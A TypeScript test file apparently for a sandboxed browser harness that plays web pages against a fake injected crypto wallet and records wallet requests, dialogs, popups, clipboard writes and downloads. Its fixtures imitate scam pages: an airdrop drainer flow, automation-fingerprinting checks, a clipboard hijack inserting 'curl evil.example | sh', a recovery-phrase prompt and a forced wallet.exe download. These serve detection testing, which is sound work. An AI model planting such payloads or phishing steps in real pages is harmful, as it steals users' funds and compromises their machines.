import assert from 'node:assert/strict'
import { afterEach, describe, it } from 'node:test'
import { ACCOUNT, browsePages } from './testing/browsePages.ts'
import { findChromium } from './testing/chromium.ts'
import { leftovers } from './testing/leftovers.ts'

const { skip } = findChromium()
const script = (source: string) =>
  `<!doctype html><title>page</title><body>${'<p>text</p>'}<script type="module">${source}</script>`
const SEND = JSON.stringify([{ from: ACCOUNT, to: `0x${'cd'.repeat(20)}`, data: '0x' }])

describe('a page in a browser', { skip, timeout: 600_000 }, () => {
  afterEach(async () => assert.deepEqual(await leftovers(), { folders: [], processes: [] }))

  it('finds a wallet by EIP-1193 and by EIP-6963, and every request is recorded with its provider', async () => {
    const { browsing, asked } = await browsePages({
      '/': script(`
        const refused = (promise) => promise.catch((error) => error.code)
        let found
        addEventListener('eip6963:announceProvider', (event) => { found = event.detail.provider })
        dispatchEvent(new Event('eip6963:requestProvider'))
        const said = []
        ethereum.on('accountsChanged', (accounts) => said.push(accounts.length))
        said.push(await ethereum.request({ method: 'eth_accounts' }), await ethereum.request({ method: 'eth_requestAccounts' }))
        said.push(await refused(ethereum.request({ method: 'eth_sendTransaction', params: ${SEND} })))
        said.push(await refused(found.request({ method: 'personal_sign', params: ['0x68656c6c6f', '${ACCOUNT}'] })))
        said.push(await refused(ethereum.request({ method: 'eth_sendTransaction', params: ${SEND} })))
        await ethereum.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: '0x38' }] })
        said.push(ethereum.chainId, await refused(ethereum.request({ method: 'wallet_sendCalls', params: [{ calls: [] }] })))
        said.push(await refused(ethereum.request({ method: 'eth_sign', params: ['x'.repeat(70000)] })))
        said.push(BigInt(await ethereum.request({ method: 'eth_getBalance', params: ['${ACCOUNT}'] })) > 0n)
        await new Promise((resolve) => ethereum.sendAsync({ id: 7, method: 'eth_chainId' }, (error, { id, result }) => { said.push(id, result); resolve() }))
        alert(JSON.stringify(said))`),
    })
    assert.deepEqual(browsing.dialogs, [`alert: [1,[],["${ACCOUNT}"],4001,4001,4001,"0x38",4001,4001,true,7,"0x38"]`])
    const made = browsing.requests.map(({ method, provider, chain }) => `${method} ${provider} ${chain}`)
    assert.deepEqual(made, [
      'eth_requestAccounts eip1193 ethereum',
      'eth_sendTransaction eip1193 ethereum',
      'personal_sign eip6963 ethereum',
      'wallet_switchEthereumChain eip1193 ethereum',
      'wallet_sendCalls eip1193 bsc',
      'eth_sign eip1193 bsc',
    ])
    assert.ok(browsing.requests.every(({ unprompted }) => unprompted))
    assert.match(browsing.requests.at(-1)?.failure ?? '', /larger than 64 KB/)
    assert.deepEqual(asked.find(({ method }) => method === 'eth_sendTransaction')?.params, JSON.parse(SEND))
    assert.deepEqual([browsing.cutOff, browsing.partlyUsed], [null, undefined])
    assert.deepEqual(browsing.contacted, ['shop.sandbox.test'])
    const png = Buffer.from(browsing.screenshot ?? '', 'base64')
    assert.deepEqual([png.subarray(1, 4).toString(), png.readUInt32BE(16), png.readUInt32BE(20)], ['PNG', 1280, 800])
  })

  it('cannot tell the wallet from one that was installed', async () => {
    const { browsing } = await browsePages({
      '/': script(`
        const marks = Object.getOwnPropertyNames(window).filter((name) => /^_|playwright|puppeteer|cdc_|binding/i.test(name))
        const native = (call) => /^function \\w*\\(\\) \\{ \\[native code\\] \\}$/.test(Function.prototype.toString.call(call))
        const look = { get id() { alert('a user reads the console') } }
        console.log(look, Object.defineProperty(new Error(), 'stack', { get: () => alert('the console reads stacks') }))
        const calls = [ethereum.request, ethereum.on, ethereum.sendAsync, document.execCommand, navigator.serviceWorker?.register ?? alert, console.log]
        alert(JSON.stringify([marks, calls.map(native), Object.keys(window).includes('ethereum'), ethereum.isMetaMask, ethereum.request.name,
          navigator.webdriver, /headless/i.test(navigator.userAgent + JSON.stringify(navigator.userAgentData ?? {})), Notification.permission]))`),
    })
    assert.deepEqual(browsing.dialogs, [
      'alert: [[],[true,true,true,true,true,true],false,true,"request",false,false,"denied"]',
    ])
  })

  it('has its buttons pressed, and what only then happens is told from what happens unasked', async () => {
    const { browsing } = await browsePages({
      '/': `<!doctype html><style>button { padding: 1em }</style><h1>Airdrop</h1>
        <button onclick="this.remove(); ethereum.request({ method: 'eth_requestAccounts' }).then(() => claim.hidden = false)">Connect wallet</button>
        <button onclick="location = '/elsewhere'">Cancel</button>
        <div id="host"></div><button id="claim" hidden>Claim now</button>
        <script>
          ethereum.request({ method: 'wallet_addEthereumChain', params: [{ chainId: '0xa' }] }).catch(() => 0)
          claim.onclick = () => { host.attachShadow({ mode: 'open' }).innerHTML = '<button>MetaMask</button>'
            host.shadowRoot.firstChild.onclick = (event) => event.isTrusted && ethereum.request({ method: 'eth_sendTransaction', params: ${SEND} }) }
        </script>`,
    })
    const made = browsing.requests.map(({ method, unprompted }) => `${method} ${unprompted}`)
    assert.deepEqual(made, ['wallet_addEthereumChain true', 'eth_requestAccounts false', 'eth_sendTransaction false'])
    assert.equal(browsing.finalUrl, 'http://shop.sandbox.test/')
  })

  it('is watched in its frames, its popups and after it went elsewhere', async () => {
    const asks = (name: string) => `ethereum.request({ method: 'personal_sign', params: ['${name}'] }).catch(() => 0)`
    const { browsing } = await browsePages({
      '/': `<!doctype html><script>${asks('before')}.then(() => setTimeout(() => { location = '/next' }, 500))</script>`,
      '/next': `<!doctype html><iframe src="/framed"></iframe><iframe srcdoc="<script>${asks('inline')}</script>"></iframe>
        <button onclick="for (let i = 0; i < 4; i++) window.open('/popup')">Continue</button><script>${asks('after')}</script>`,
      '/framed': `<script>${asks('framed')}</script>`,
      '/popup': `<script>${asks('popup')}</script>`,
    })
    const params = browsing.requests.map(({ params }) => JSON.parse(params)[0])
    assert.deepEqual(params.sort(), ['after', 'before', 'framed', 'inline', 'popup'])
    assert.equal(browsing.finalUrl, 'http://shop.sandbox.test/next')
  })

  it('is not used to its end where it has more to press than is pressed', async () => {
    const buttons = Array.from({ length: 12 }, (_, at) => `<button>Choice ${'abcdefghijkl'[at]}</button>`).join('')
    const long = await browsePages({ '/': `<!doctype html><h1>Choices</h1>${buttons}` })
    assert.deepEqual([long.browsing.cutOff, long.browsing.partlyUsed], [null, true])
    const short = await browsePages({ '/': '<!doctype html><h1>Choices</h1><button>Choice</button>' })
    assert.deepEqual([short.browsing.cutOff, short.browsing.partlyUsed], [null, undefined])
  })

  it('goes on at once after windows were opened, and is not used to its end where they are more than are used', async () => {
    const asks =
      "ethereum.request({ method: 'personal_sign', params: [document.visibilityState + this.textContent] }).catch(() => 0)"
    const opens = (count: number) =>
      Array.from(
        { length: count },
        (_, at) => `<button onclick="${asks}; this.remove(); window.open('/popup')">Choice ${'abc'[at]}</button>`,
      )
    for (const [count, expected] of [
      [3, true],
      [1, undefined],
    ] as const) {
      const page = `<!doctype html><h1>Choices</h1>${opens(count).join('')}`
      const { browsing } = await browsePages({ '/': page, '/popup': '<p>text</p>' })
      assert.equal(browsing.partlyUsed, expected, String(count))
      const made = browsing.requests.map(({ params }) => JSON.parse(params)[0])
      assert.deepEqual(
        made.sort(),
        ['a', 'b', 'c'].slice(0, count).map((name) => `visibleChoice ${name}`),
      )
    }
  })

  it('copies, asks and downloads nothing without being named for it', async () => {
    const { browsing } = await browsePages({
      '/': `<!doctype html><input id="field" value="0x1111 of the thief"><button>Verify</button><script>
          const steps = async () => {
            field.select(); document.execCommand('copy')
            document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', 'curl evil.example | sh'); event.preventDefault() })
            document.execCommand('copy')
            confirm('Sure?'); prompt('Your recovery phrase?')
            const link = Object.assign(document.createElement('a'), { href: '/file', download: 'wallet.exe' }); document.body.append(link); link.click()
            navigator.geolocation?.getCurrentPosition(() => alert('located'))
            navigator.serviceWorker?.register('/worker.js').then(() => alert('registered'))
          }
          document.querySelector('button').onclick = steps
        </script>`,
      '/file': (_, response) => void response.writeHead(200, { 'content-type': 'application/octet-stream' }).end('MZ'),
      '/worker.js': (_, response) => void response.writeHead(200, { 'content-type': 'text/javascript' }).end(''),
    })
    assert.deepEqual(browsing.clipboardWrites, ['0x1111 of the thief', 'curl evil.example | sh'])
    assert.deepEqual(browsing.dialogs, ['confirm: Sure?', 'prompt: Your recovery phrase?'])
    assert.deepEqual(browsing.downloads, [
      { name: 'wallet.exe', url: 'http://shop.sandbox.test/file', afterPress: true },
    ])
  })
})
